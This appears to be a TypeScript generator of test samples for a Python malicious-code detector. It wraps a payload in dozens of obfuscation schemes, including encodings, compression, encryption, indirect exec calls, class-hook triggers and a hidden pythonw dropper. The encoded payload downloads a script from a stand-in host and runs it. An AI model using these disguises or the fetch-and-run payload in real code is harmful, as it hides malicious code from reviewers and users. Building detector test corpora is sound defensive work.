/** Ways to write the same code so that a reader of text does not see it. Each takes Python source and gives Python source that runs it. */
import { createCipheriv, createHmac } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { HARMLESS, PAYLOAD } from './payload.ts';

export type Disguise = (code: string) => string;

function b64(code: string | Uint8Array): string {
  return Buffer.from(code).toString('base64');
}

function hex(code: string): string {
  return Buffer.from(code).toString('hex');
}

function reversed(text: string): string {
  return [...text].reverse().join('');
}

/** Made by CPython 3.11 of the payload and of the harmless code, for formats that Node doesn't write. */
const PACKED = {
  bz2: ['QlpoOTFBWSZTWXyTZFkAACFZgAAQQOWAEDZn/+AgAGoghGGU0xNPUMQZU9EaM1GmgPKBylPwszZEZXC9bTN7BMGyAwRzq1pA1FMZUFJME8IPRU5q5Z5QFEOlAqC6WCtB2GPgTIKbWN5rEbNLTebDQrAnGgXMdTZAY/i7kinChIPkmyLI', 'QlpoOTFBWSZTWe0b5j0AAArRgAAQQOA2Z1YgIAAiIBtIZD1CmTEyDIywQsvhDJGnCk9zPhOynxdyRThQkO0b5j0='],
  xz: ['/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ACHAGxdADSbSme4Ujxz/PDtNmvEjFw9cl9Dso4PwAfV5nZ/sgJIuC5sO41zLAUKgOABxmI4dLA3L4rDQM1FR+4HfDtMs5JFU7X9GcYkVCGSPycT7UPtXa45+G472MXfJ6Y7b4ciyzv3d49bwEGrSNCAAAA2esn4y5hwvwABiAGIAQAAO5/5JbHEZ/sCAAAAAARZWg==', '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAacHJpbnQoJ21hZGUgYnkgdGhlIGJ1aWxkJykKAACWmGXfFaMKQQABMxv3GYheH7bzfQEAAAAABFla'],
  lzma: ['XQAAgAD//////////wA0m0pnuFI8c/zw7TZrxIxcPXJfQ7KOD8AH1eZ2f7ICSLgubDuNcywFCoDgAcZiOHSwNy+Kw0DNRUfuB3w7TLOSRVO1/RnGJFQhkj8nE+1D7V2uOfhuO9jF3yemO2+HIss793ePW8BBq5pm0Q//2+cAAA==', 'XQAAgAD//////////wA4HIlWjAuZcYRw79Ejjpp5JhHp8Oi6YDmWxuSa3qm///gcQAA='],
  marshal: ['YwAAAAAAAAAAAAAAAAUAAAAAAAAA88gAAACXAGQAZAFsAFoBZABkAWwCWgICAGUDZAJkA6YCAACrAgAAAAAAAAAAoAQAAAAAAAAAAAAAAAAAAAAAAAAAAGUBagUAAAAAAAAAAKAGAAAAAAAAAAAAAAAAAAAAAAAAAABkBKYBAACrAQAAAAAAAAAAoAcAAAAAAAAAAAAAAAAAAAAAAAAAAKYAAACrAAAAAAAAAAAApgEAAKsBAAAAAAAAAAABAAIAZQJqCAAAAAAAAAAAZAWmAQAAqwEAAAAAAAAAAAEAZAFTACkG6QAAAABOegkvdG1wL3guc2jaAndiehVodHRwOi8vaG9zdC5pbnZhbGlkL3h6DHNoIC90bXAveC5zaCkJ2g51cmxsaWIucmVxdWVzdNoGdXJsbGli2gJvc9oEb3BlbtoFd3JpdGXaB3JlcXVlc3TaB3VybG9wZW7aBHJlYWTaBnN5c3RlbakA8wAAAAD6CDxzdHJpbmc++gg8bW9kdWxlPnIPAAAAAQAAAHNyAAAA8AMBAQHYABjQABjQABjQABjQABjQABjQABjQABjYAASABIBbkBTRABbUABbXABzSAByYVpxe1x0z0h0z0DRL0R1M1B1M1x1R0h1R0R1T1B1T0QBU1ABU0ABU2AAJgAKECYgu0QAZ1AAZ0AAZ0AAZ0AAZcg0AAAA=', 'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQJ6EW1hZGUgYnkgdGhlIGJ1aWxkTikB2gVwcmludKkA8wAAAAD6CDxzdHJpbmc++gg8bW9kdWxlPnIFAAAAAQAAAHMcAAAA8AMBAQHYAAWABdAGGdEAGtQAGtAAGtAAGtAAGnIDAAAA'],
} as const;

function packed(format: keyof typeof PACKED, code: string): string {
  const [payload, harmless] = PACKED[format];
  if (code !== PAYLOAD && code !== HARMLESS) throw new Error('packed beforehand only for two texts');
  return code === PAYLOAD ? payload : harmless;
}

function fernet(code: string): string {
  const key = Buffer.alloc(32, 7);
  const cipher = createCipheriv('aes-128-cbc', key.subarray(16), Buffer.alloc(16, 1));
  const body = Buffer.concat([Buffer.from([0x80, 0, 0, 0, 0, 0x60, 0, 0, 0]), Buffer.alloc(16, 1), cipher.update(code), cipher.final()]);
  const token = Buffer.concat([body, createHmac('sha256', key.subarray(0, 16)).update(body).digest()]);
  return `from cryptography.fernet import Fernet\nexec(Fernet(b'${key.toString('base64url')}=').decrypt(b'${token.toString('base64url')}'))\n`;
}

function aes(code: string): string {
  const cipher = createCipheriv('aes-128-cbc', Buffer.from('sixteen byte key'), Buffer.from('sixteen byte iv_'));
  const data = Buffer.concat([cipher.update(code), cipher.final()]);
  return `from Crypto.Cipher import AES\nimport base64\nc = AES.new(b'sixteen byte key', AES.MODE_CBC, b'sixteen byte iv_')\nexec(c.decrypt(base64.b64decode('${b64(data)}')))\n`;
}

function deep(code: string, layers: number): string {
  let text = code;
  for (let i = 0; i < layers; i++) text = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${b64(deflateSync(text))}')))\n`;
  return text;
}

/** As one family does: names of thousands of characters, in a file whose name tells nothing, started by the interpreter without a window. */
function droppedLongNames(code: string): string {
  const name = '__0x_forged'.repeat(300);
  const pieces = b64(code).match(/.{1,10}/g) ?? [];
  const dropped = `${name} = ""\n${pieces.map((piece) => `${name} += "${piece}"\n`).join('')}exec(__import__("base64").b64decode(${name}.encode("utf-8")).decode("utf-8"))`;
  return `from tempfile import NamedTemporaryFile\nfrom os import system\nf = NamedTemporaryFile(delete=False)\nf.write(b${JSON.stringify(dropped)})\nf.close()\nsystem(f"start pythonw.exe {f.name}")\n`;
}

function customAlphabet(code: string): string {
  const standard = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const own = reversed(standard);
  const text = [...b64(code)].map((char) => (char === '=' ? char : own.charAt(standard.indexOf(char)))).join('');
  return `import base64\nt = str.maketrans('${own}', '${standard}')\nexec(base64.b64decode('${text}'.translate(t)))\n`;
}

function codes(code: string, change: (byte: number) => number): string {
  return `[${[...Buffer.from(code)].map(change).join(', ')}]`;
}

/** Names that are not written out. */
export const NAMES: Readonly<Record<string, Disguise>> = {
  'aliases': (code) => `from base64 import b64decode as d\na = exec\na(d('${b64(code)}'))\n`,
  'concatenation': (code) => `getattr(__import__('bui' + 'ltins'), 'ex' + 'ec')(getattr(__import__('base' + '64'), 'b64' + 'decode')('${b64(code)}'))\n`,
  'escapes': (code) => `getattr(__import__('\\x62\\x75\\x69ltins'), '\\u0065xe\\143')(__import__('\\x62ase64').b64decode('${b64(code)}'))\n`,
  'globals': (code) => `import base64\nglobals()['__builtins__'].exec(base64.b64decode('${b64(code)}'))\n`,
  'the dictionary of built-ins': (code) => `import base64\n__builtins__.__dict__['cexe'[::-1]](base64.b64decode('${b64(code)}'))\n`,
  'vars of an import': (code) => `import base64\nvars(__import__('builtins'))['exec'](base64.b64decode('${b64(code)}'))\n`,
  'a reversed import': (code) => `m = __import__('46esab'[::-1])\nexec(m.b64decode('${b64(code)}'))\n`,
  'importlib': (code) => `import importlib\nimportlib.import_module('builtins').exec(importlib.import_module('base64').b64decode('${b64(code)}'))\n`,
  'a lambda that decodes': (code) => `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${reversed(b64(deflateSync(code)))}'))\n`,
  'an immediately called lambda': (code) => `(lambda f, t: f(__import__('base64').b64decode(t)))(exec, '${b64(code)}')\n`,
  'a class attribute': (code) => `import base64\nclass K:\n    run = exec\n    text = '${b64(code)}'\nK.run(base64.b64decode(K.text))\n`,
  'a decorator': (code) => `import base64\n@exec\n@base64.b64decode\n@lambda f: '${b64(code)}'\ndef x(): pass\n`,
  'joined characters': (code) => `import base64\nn = ''.join(chr(c) for c in [101, 120, 101, 99])\ngetattr(__builtins__, n)(base64.b64decode('${b64(code)}'))\n`,
  'formatting': (code) => `import base64\ngetattr(__builtins__, '%s%c%s' % ('e', 120, 'ec'))(base64.b64decode(f"{'${b64(code)}'}"))\n`,
  'compile and FunctionType': (code) => `import base64, types\ntypes.FunctionType(compile(base64.b64decode('${b64(code)}'), 'x', 'exec'), globals())()\n`,
  'a map over functions': (code) => `import base64\nlist(map(exec, map(base64.b64decode, ['${b64(code)}'])))\n`,
  'a dictionary of functions': (code) => `import base64\nd = {'a': exec, 'b': base64.b64decode}\nd['a'](d['b']('${b64(code)}'))\n`,
  'functools.partial': (code) => `import base64, functools\nfunctools.partial(exec, base64.b64decode('${b64(code)}'))()\n`,
  'a thread': (code) => `import base64, threading\nthreading.Thread(target=exec, args=(base64.b64decode('${b64(code)}'),)).start()\n`,
  'an exception on the way': (code) => `import base64\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    exec(base64.b64decode('${b64(code)}'))\n`,
  'a comprehension': (code) => `import base64\n[exec(base64.b64decode(x)) for x in ['${b64(code)}']]\n`,
  'a walrus': (code) => `import base64\n(e := exec)(base64.b64decode((t := '${b64(code)}')))\n`,
  'unusual letters': (code) => `import base64\n𝓮𝔁𝓮𝓬(base64.b64decode('${b64(code)}'))\n`,
  'a child interpreter': (code) => `import subprocess, sys\nsubprocess.run([sys.executable, '-c', "import base64;exec(base64.b64decode('${b64(code)}'))"])\n`,
  'letters of what built-ins print': (code) => `c = getattr(__builtins__, oct.__str__()[-3] + hex.__repr__()[-1 << 2] + copyright.__str__()[4])\nexec(''.join(map(c, ${codes(code, (byte) => byte)})))\n`,
  'special methods': (code) => `exec.__call__(__import__('base64').__getattribute__('b64'.__add__('decode'))('${b64(code)}'.__getitem__(slice(None))))\n`,
  'the operator module': (code) => `import operator\noperator.methodcaller('exec', operator.attrgetter('b64decode')(__import__('base64'))('${b64(code)}'))(__import__('builtins'))\n`,
  'an overloaded operator': (code) => `class C:\n    def __add__(self, text):\n        exec(__import__('base64').b64decode(text))\nC() + '${b64(code)}'\n`,
  'an object that goes': (code) => `class C:\n    def __del__(self):\n        exec(__import__('base64').b64decode('${b64(code)}'))\nC()\n`,
  'an object that is iterated': (code) => `class C:\n    def __iter__(self):\n        exec(__import__('base64').b64decode('${b64(code)}'))\n        return iter(())\nlist(C())\n`,
  'the making of a subclass': (code) => `class C:\n    def __init_subclass__(cls):\n        exec(__import__('base64').b64decode('${b64(code)}'))\nclass D(C): pass\n`,
  'a metaclass': (code) => `class M(type):\n    def __new__(cls, *rest):\n        exec(__import__('base64').b64decode('${b64(code)}'))\n        return type.__new__(cls, *rest)\nclass D(metaclass=M): pass\n`,
  'a chain of states': (code) => `import base64\nstate = 5 * 3\nwhile state:\n    if state == 7:\n        print(text[:0])\n        state = 9\n    elif state == 15:\n        text = '${b64(code)}'\n        state = 7\n    elif state == 9:\n        print(end='')\n        state = 11\n    elif state == 11:\n        exec(base64.b64decode(text))\n        state = 0\n`,
  'a class as a context': (code) => `import base64\nclass C:\n    def __enter__(self):\n        exec(base64.b64decode('${b64(code)}'))\n    def __exit__(self, *a): pass\nwith C(): pass\n`,
};

/** Codes that hide the text. */
export const CODES: Readonly<Record<string, Disguise>> = {
  'base64': (code) => `import base64\nexec(base64.b64decode('${b64(code)}'))\n`,
  'base32, 16 and 85': (code) => `import base64\nexec(base64.b16decode(base64.b16encode(bytes.fromhex('${hex(code)}'))))\n`,
  'hex': (code) => `exec(bytes.fromhex('${hex(code)}').decode())\n`,
  'zlib': (code) => `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${b64(deflateSync(code))}')))\n`,
  'raw deflate': (code) => `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${b64(deflateRawSync(code))}'), -15))\n`,
  'gzip': (code) => `import gzip,base64\nexec(gzip.decompress(base64.b64decode('${b64(gzipSync(code))}')))\n`,
  'bzip2': (code) => `import bz2,base64\nexec(bz2.decompress(base64.b64decode('${packed('bz2', code)}')))\n`,
  'a bzip2 codec': (code) => `import codecs,base64\nexec(codecs.decode(base64.b64decode('${packed('bz2', code)}'), 'bz2'))\n`,
  'xz': (code) => `import lzma,base64\nexec(lzma.decompress(base64.b64decode('${packed('xz', code)}')))\n`,
  'lzma': (code) => `import lzma,base64\nexec(lzma.decompress(base64.b64decode('${packed('lzma', code)}'), lzma.FORMAT_ALONE))\n`,
  'a decompressor object': (code) => `import bz2,base64\nexec(bz2.BZ2Decompressor().decompress(base64.b64decode('${packed('bz2', code)}')))\n`,
  'marshal': (code) => `import marshal,base64\nexec(marshal.loads(base64.b64decode('${packed('marshal', code)}')))\n`,
  'Fernet': fernet,
  'AES': aes,
  'rot13': (code) => `import codecs\nexec(codecs.decode(${JSON.stringify(code.replace(/[a-z]/gi, (c) => String.fromCharCode((c.charCodeAt(0) & 31) <= 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13)))}, 'rot13'))\n`,
  'an own alphabet': customAlphabet,
  'a list of numbers': (code) => `exec(bytes(${codes(code, (byte) => byte)}))\n`,
  'a list of shifted numbers': (code) => `exec(''.join(map(lambda c: chr(c - 5), ${codes(code, (byte) => byte + 5)})))\n`,
  'a loop of XOR': (code) => `data = ${codes(code, (byte) => byte ^ 0x5a)}\nout = bytearray()\nfor b in data:\n    out.append(b ^ 0x5a)\nexec(out.decode())\n`,
  'a XOR with a key': (code) => `k = b'key'\nd = ${codes(code, (byte) => byte)}\nd = [b ^ k[i % 3] for i, b in enumerate(d)]\nd = bytes(b ^ k[i % len(k)] for i, b in enumerate(d))\nexec(d)\n`,
  'a while loop': (code) => `s = '${reversed(hex(code))}'\no = ''\ni = len(s)\nwhile i > 0:\n    o += chr(int(s[i-1] + s[i-2], 16))\n    i -= 2\nexec(o)\n`,
  'reversed text': (code) => `exec(${JSON.stringify(reversed(code))}[::-1])\n`,
  'replaced marks': (code) => `exec(${JSON.stringify(code.replaceAll('o', '@@'))}.replace('@@', 'o'))\n`,
  'percent encoding': (code) => `from urllib.parse import unquote\nexec(unquote('${[...Buffer.from(code)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}'))\n`,
  'unicode escapes': (code) => `exec(r'${[...code].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}'.encode().decode('unicode_escape'))\n`,
  'shifted letters far up the alphabet': (code) => `def l1(ll):\n    n = ord(ll[-1])\n    ll = ll[:-1]\n    k = n % len(ll)\n    t = ll[:k] + ll[k:]\n    return str().join([chr(ord(c) - 2048 - (i + n) % 7) for i, c in enumerate(t)])\nexec(l1(${JSON.stringify([...code].map((char, i) => String.fromCharCode(char.charCodeAt(0) + 2048 + ((i + 2055) % 7))).join('') + String.fromCharCode(2055))}))\n`,
  'a dropped file of long names': droppedLongNames,
  'a big number': (code) => `n = 0x${hex(code)}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))\n`,
  '60 layers': (code) => deep(code, 60),
};
